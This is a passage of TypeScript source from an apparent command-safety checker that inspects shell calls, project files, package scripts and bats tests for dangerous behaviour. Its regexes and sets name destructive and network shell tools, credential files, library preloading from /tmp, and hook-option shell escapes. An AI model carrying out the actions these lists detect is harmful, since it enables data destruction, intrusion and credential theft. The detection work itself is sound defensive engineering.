	/^((\/usr)?\/s?bin\/)?(rm|shred|dd|mkfs(\.\w{1,8})?|wipefs|chmod|chown|mv|cp|cat|tee|truncate|curl|wget|nc|ncat|socat|telnet|bash|sh|zsh|dash|python3?|perl|ruby|node|php|find|sudo|su|env|nohup|xargs|kill|pkill|killall|reboot|shutdown|poweroff|useradd|usermod|userdel|passwd|chpasswd|crontab|systemctl|iptables|insmod|modprobe|mount|umount|docker|podman|kubectl|nsenter|chroot|unshare|sysctl|setenforce|chattr|setcap|gcore|xmrig|ssh-keygen|auditctl|losetup|cryptsetup|nft|ufw|pkexec|doas|base64|xxd|strings|gdb|mkfifo|tar|scp|ssh|sed|awk)$/;
/** Programs whose names are what others call their own commands. */
const COMMON_WORD =
	/^(install|init|service|security|net|ip|at|batch|set|unset|export|history|date|rename|wipe|trash|pass|op|age|route|render|fly|zip|screen|less|more|man|mail|view|ex|ed|top|swift|script|watch|make|test|info|security|copilot|deploy|link|login|npm|yarn|pnpm|cargo|go|node|git|pip|gem|composer|run-parts|read|hash|complete|bind|trap|eval|exec|source|declare|time|touch|help|list|shell|console|server|start|stop|split|expand|sort|find|diff|restic|flux|argocd|temporal|influx|circleci|stripe|render|juju|bosh|deck|kong|pd|nats|fastly|flipt|consul|nomad|supabase|netlify|vercel|heroku|firebase|wrangler)$/;
const PLAIN_SHELL = /^(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh$|^(cmd|powershell)(\.exe)?$/;

/** What an argument may have a program start. */
function startedBy(call: Call, arg: string, next: string, known: boolean): void {
	if (SHELL_WORD.test(arg)) call.hit(shellRules["shell-escape"]);
	else if (COMMAND_OPTIONS.test(arg) && (known ? /\bsh -c\b/ : /[;|&`$\s]/).test(next) && isKnown(next)) call.maybe(next, call.name);
	// A hook that lies where anybody can write.
	const hook = HOOK_OPTION.exec(arg);
	const path = hook?.[2] ?? next;
	if (hook && !known && /^\/(tmp|var\/tmp|dev\/shm)\//.test(path)) call.hit(shellRules["shell-escape"]);
	if (hook && /-on-|(hook|askpass|plugin|pager|helper)$/.test(hook[0].split("=", 1)[0] ?? "") && PLAIN_SHELL.test(path))
		call.hit(shellRules["shell-escape"]);
	// A library of one's own, by whatever option a program loads such things with.
	const library = LIBRARY_OPTION.exec(arg);
	if (library) {
		const loaded = library[2] ?? next;
		if (/^(\/tmp|\/var\/tmp|\/dev\/shm)\/|^(\.\.?\/){1,16}[^\s]{0,256}(\.so|\/lib[^/]{0,64})$|^(\.\.\/){3}/.test(loaded))
			call.hit(g["load-library"]);
	}
	// fzf, m4 and others: `enter:execute(...)`, `esyscmd(...)`.
	for (const match of arg.matchAll(/(?:execute|execute-silent|reload|become|transform|esyscmd|syscmd|preview)\(([^)]{1,2048})\)/g))
		call.script(match[1] ?? "", call.name, [], null);
	const alias = /^alias\.[\w-]{1,64}=!([\s\S]{1,2048})$/.exec(arg);
	if (alias) call.script(alias[1] ?? "", call.name, [], null);
}
const LIBRARY_OPTION =
	/^--?[a-z-]{0,32}(default-auth|plugin|plugin-dir|plugins|module|engine|provider|load|library|lib|preload|extension)(?:=(.{1,512}))?$/;
const HOOK_OPTION =
	/^--?[a-z-]{0,32}(script|hook|exec|cmd|command|askpass|plugin|helper|program|pager|editor|on-[a-z-]{1,24}|-bin)(?:=(.{1,512}))?$/;

/** A file that this script has just written, and that this program is given or finds where it runs: its content is what runs. */
function writtenBefore(call: Call): void {
	// A program that such a file has started is not given it again.
	if (call.via.length > 8) return;
	// A build's files lie around the one that is named.
	const around = BUILDS.has(call.name)
		? [
				".",
				...call.args.filter((arg) => arg.includes("/")).flatMap((arg) => [arg.replace(/\/[^/]*$/, ""), arg.replace(/\/[^/]*$/, "/src")]),
			]
		: [];
	const named = new Set(call.filesIn(call.args));
	const prose = RUNS_DOCUMENTS.test(call.name) ? new Set() : documents(call);
	for (const content of around.length > 0 ? call.filesIn([...call.args, ...around]) : named) {
		if (squeezed(content).trim() === "" || prose.has(content)) continue;
		if (/["'\s=](\/tmp|\/var\/tmp|\/dev\/shm)\/[^\s;"']{1,256}\.(so|dylib)\b/.test(content)) call.hit(g["load-library"]);
		for (const script of jsonScripts(content)) call.maybe(script, call.name);
		if (SHELL_WORD.test(content.replace(/^#![^\n]{0,64}/, ""))) call.hit(shellRules["shell-escape"]);
		call.code(call.name, content);
		// What only lies there is a script if it says so: it may be a makefile.
		if (!/^\s{0,8}[{<[(]/.test(content) && (named.has(content) || content.startsWith("#!"))) call.maybe(content, call.name);
	}
}
/** What is written for people, by its name: no program for whoever checks, formats or renders it. */
const DOCUMENT = /\.(md|mdx|rst|adoc|html?|css|svg|csv)$/i;
const RUNS_DOCUMENTS = /^(runme|mdsh|rundoc|codedown|mask|maid|xc|literate|jupytext|quarto|knitr)$/;
const documents = (call: Call): Set<string> =>
	new Set([
		...call.filesBelow(".").flatMap(([path, content]) => (DOCUMENT.test(path) ? [content] : [])),
		...call.args.slice(0, 64).flatMap((arg) => (DOCUMENT.test(arg) ? (call.file(arg) ?? []) : [])),
	]);

/** A file of tests for bats as the script that it is: each test its commands, and `run` before a command nothing of its own. */
const batsScript = (text: string): string =>
	text
		.slice(0, 32_768)
		.replace(/^[ \t]{0,16}@test [^\n]{0,512}\{[ \t]{0,16}$/gm, "{")
		.replace(/^([ \t]{0,32})run (?:(?:--[a-z-]{1,32}|-\d{1,3}|!) ){0,3}/gm, "$1");

/**
 * What this script has written into the project that a program is about to work on: build descriptions, tests, hooks and settings are
 * programs, each in its own way. Whether they are run nobody can say, so only what is denied counts.
 */
function projectFiles(call: Call): void {
	if (call.via.length > 6) return;
	for (const [path, content] of call.filesBelow(".")) {
		if (
			content.length > 16_384 ||
			/\.(md|mdx|rst|txt|log|html?|css|svg|csv|lock)$/i.test(path.replace(/CMakeLists\.txt$/, "")) ||
			!RISKY.test(content)
		)
			continue;
		if (path.endsWith(".bats")) {
			call.perhaps(() => call.maybe(batsScript(content), call.name));
			continue;
		}
		call.perhaps(() => {
			call.code(LANGUAGES[/\.(\w{1,6})$/.exec(path)?.[1] ?? ""] ?? call.name, content);
			for (const script of jsonScripts(content)) call.maybe(script, call.name);
			if (CODE_FILE.test(path) && !content.includes("go:generate")) return;
			for (const line of content.split("\n", 256)) {
				if (!RISKY.test(line) || line.length > 2048) continue;
				for (const script of commandsOf(line)) call.maybe(script, call.name);
			}
		});
	}
}
/** Words without which nothing in a file is worth a closer look. */
const RISKY =
	/\b(rm|dd|mkfs|shred|curl|wget|nc|ncat|socat|chmod|chown|remove_dir_all|RemoveAll|rmtree|rmSync|rm_rf|execSync|system|popen|crontab|useradd|Socket|socket)\b|\/dev\/tcp|\/etc\/(shadow|passwd|sudoers)|\.ssh|\.aws/;
const CODE_FILE = /\.(py|m?[jt]sx?|cjs|rb|pl|php|lua|rs|go|java|kt|swift|c|cc|cpp|h|cs|dart|jl|r|ex|exs)$/i;
const LANGUAGES: Readonly<Record<string, string>> = {
	py: "python",
	js: "node",
	mjs: "node",
	cjs: "node",
	ts: "node",
	rb: "ruby",
	pl: "perl",
	php: "php",
	lua: "lua",
	jl: "julia",
};

/** The commands that a line of a description may hold: all of it, what stands behind a key or a dash, and what is quoted. */
function commandsOf(line: string): string[] {
	const plain = line.trim().replace(/^(?:-\s{1,4}|@|\/\/go:generate\s{1,4}){1,3}/, "");
	const behind = /^[^"'\s]{0,64}\s{0,4}[:=]\s{0,4}(.{1,2048})$/.exec(plain)?.[1];
	const quoted = [...plain.matchAll(/"((?:[^"\\]|\\.){4,1024})"|'([^']{4,1024})'/g)].map((match) =>
		(match[1] ?? match[2] ?? "").replace(/\\(["'])/g, "$1"),
	);
	const listed = quoted.length > 2 ? [quoted.join(" ")] : [];
	return [plain, ...(behind === undefined ? [] : [behind]), ...quoted, ...listed].filter((text) => STARTS_COMMAND.test(text)).slice(0, 8);
}
const STARTS_COMMAND =
	/^(?:sudo |env |exec |nohup |time ){0,2}(?:(?:\/usr)?\/bin\/)?(?:rm|dd|mkfs\S{0,8}|shred|curl|wget|nc|ncat|socat|chmod|chown|mv|cp|cat|tee|tar|bash|sh|zsh|python3?|perl|ruby|node|php|find|eval|source|crontab|useradd|kill|cd|echo|printf|base64|scp|ssh|docker)\s/;

/** The scripts of a package's description. */
function jsonScripts(text: string): string[] {
	if (text.length > 16_384 || !/^\s{0,64}\{/.test(text) || !text.includes('"scripts"')) return [];
	try {
		const { scripts } = JSON.parse(text) as { scripts?: Record<string, unknown> };
		return Object.values(scripts ?? {})
			.flat()
			.filter((script) => typeof script === "string")
			.slice(0, 64);
	} catch {
		return [];
	}
}

/** Programs with rules of their own that work on a project and run what lies in it. */
const RUNS_PROJECT = new Set(
	"npm yarn pnpm npx bunx bun deno pip pip3 gem cargo go composer gradle mvn rake rails bundle pytest jest vitest make gmake cmake terraform tofu terragrunt ansible-playbook vagrant poetry uv hatch node python ruby php java helm direnv nix nix-shell docker-compose swift puppet julia".split(
		" ",
	),
);

/** What runs a program of the caller's choosing behind one rare option. */
const HOOKS: ReadonlyMap<string, RegExp> = new Map([
	["wget", /^--use-askpass/],
	["scp", /^-S/],
	["sftp", /^-S/],
	["tcpdump", /^-z$/],
	["dnsmasq", /^--dhcp-script/],
	["nmap", /^--script=\/tmp/],
	["rsyslogd", /^-f$/],
	["script", /^-q$/],
	["kubectl", /^--www=/],
	["run-parts", /^\/(usr\/)?s?bin$/],
]);
/** Programs for which a file's content is only content. */
const READS_FILES =
	/^(cat|less|more|head|tail|wc|sort|uniq|diff|cmp|comm|join|paste|jq|yq|bat|stat|file|ls|test|xxd|od|cut|tr|column|md5sum|sha256sum|xmllint|xsltproc|bats|shellcheck|prettier|eslint|black|yamllint|open|tree|nl|tac|tee|gofmt|rustfmt|kubectl|docker|chmod|rm|mv|cp|mkdir|cd|echo|printf|git|grep|rg|sed|awk)$/;
/** Programs that run what lies in the directory that they are given or stand in. */
const BUILDS = new Set(
	"bundle bundler npm yarn pnpm pip pip3 gem cargo go easy_install composer gcc g++ cc clang tcc rustc javac java v crystal nim dotnet mvn gradle ant rake nmap ansible-playbook puppet facter aria2c strings latex pdflatex pandoc cobc m4 nginx julia bpftrace apt apt-get yum dnf code pytest tox nox jest vitest mocha rspec phpunit pdb vagrant rtorrent dstat".split(
		" ",
	),
);
